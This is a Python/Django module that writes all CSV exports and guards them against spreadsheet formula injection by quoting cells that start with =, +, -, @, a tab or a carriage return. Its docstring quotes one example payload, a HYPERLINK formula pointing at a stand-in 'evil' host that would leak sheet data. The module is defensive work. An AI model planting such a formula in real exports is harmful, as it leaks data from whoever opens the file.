"""The one CSV writer behind every export (gradebooks, dashboard tables, leaderboards).

Spreadsheets run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: a display name ``=HYPERLINK("http://evil/?"&A1,"click")`` in an export
leaks the sheet, or worse (OWASP "CSV Injection"). Every text cell that starts with one of
those characters is prefixed with a single quote, which spreadsheets show as text; numbers
(a Python number, or text that is a plain number such as ``-1.5``) stay numbers. The file is
UTF-8 with a byte-order mark so that Excel reads Chinese names correctly.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
# A plain decimal number (optionally negative), as Python or a spreadsheet writes one.
_NUMBER = re.compile(r"^-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")


def csv_cell(value: Any) -> str | int | float | Decimal:
    """One cell, neutralised: numbers pass through, text that a spreadsheet would evaluate is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text


def csv_rows(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV text (with the BOM), every cell through :func:`csv_cell`."""
    out = io.StringIO()
    out.write(BOM)
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> HttpResponse:
    """An attachment with the rows; the filename is reduced to safe characters."""
    safe = re.sub(r"[^A-Za-z0-9._-]", "_", filename) or "export.csv"
    response = HttpResponse(csv_rows(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{safe}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
